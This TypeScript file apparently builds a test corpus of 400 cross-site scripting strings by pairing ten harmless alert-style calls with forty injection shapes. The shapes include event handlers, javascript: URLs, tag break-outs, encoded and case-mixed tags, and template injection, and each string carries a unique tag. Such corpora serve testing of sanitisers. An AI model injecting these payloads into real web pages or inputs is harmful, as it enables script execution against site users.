const calls: ((tag: string) => string)[] = [
  (tag) => `alert('${tag}')`,
  (tag) => `alert\`${tag}\``,
  (tag) => `(confirm)('${tag}')`,
  (tag) => `top['al'+'ert']('${tag}')`,
  (tag) => `prompt(/${tag}/)`,
  (tag) => `eval('print(1)//${tag}')`,
  (tag) => `setTimeout('alert(1)//${tag}')`,
  (tag) => `[1].find(alert)//${tag}`,
  (tag) => `&#97;lert('${tag}')`,
  (tag) => `\\u0061lert('${tag}')`,
]
/** Notations in which a browser could run a call. */
const shapes: ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<ScRiPt >${call}</sCrIpT>`,
  (call) => `<scr<script>ipt>${call}</script>`,
  (call) => `<img src=x onerror="${call}">`,
  (call) => `<svg/onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `"><img src=x onerror=${call}>`,
  (call) => `'><svg onload=${call}>`,
  (call) => `" autofocus onfocus=${call} x="`,
  (call) => `' onmouseover=${call} x='`,
  (call) => `\` onclick=${call} \``,
  (call) => `javascript:${call}`,
  (call) => `java\tscript:${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `<a href="javascript:${call}">x</a>`,
  (call) => `[x](javascript:${call})`,
  (call) => `<iframe srcdoc="<script>${call}</script>">`,
  (call) => `<iframe src="javascript:${call}">`,
  (call) => `<body onload=${call}>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<video><source onerror=${call}>`,
  (call) => `<audio src=x onerror=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<object data="javascript:${call}">`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<math><mi xlink:href="javascript:${call}">x`,
  (call) => `<form action="javascript:${call}"><button>x`,
  (call) => `<style onload=${call}></style>`,
  (call) => `<link rel=stylesheet onerror=${call} href=x>`,
  (call) => `<base href="javascript:${call}//">`,
  (call) => `<meta http-equiv=refresh content=0;javascript:${call}>`,
  (call) => `</script><script>${call}</script>`,
  (call) => `</title></style><script>${call}</script>`,
  (call) => `</textarea><script>${call}</script>`,
  (call) => `--><script>${call}</script><!--`,
  (call) => `]]><script>${call}</script>`,
  (call) => `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `{{constructor.constructor("${call}")()}}`,
  (call) => `"}]);${call};//`,
]

/** 400 texts, each with a unique tag. */
export const hostile = shapes.flatMap((shape, row) =>
  calls.map((call, column) => {
    const tag = `k${row * calls.length + column}z`
    return { tag, text: shape(call(tag)) }
  }),
)
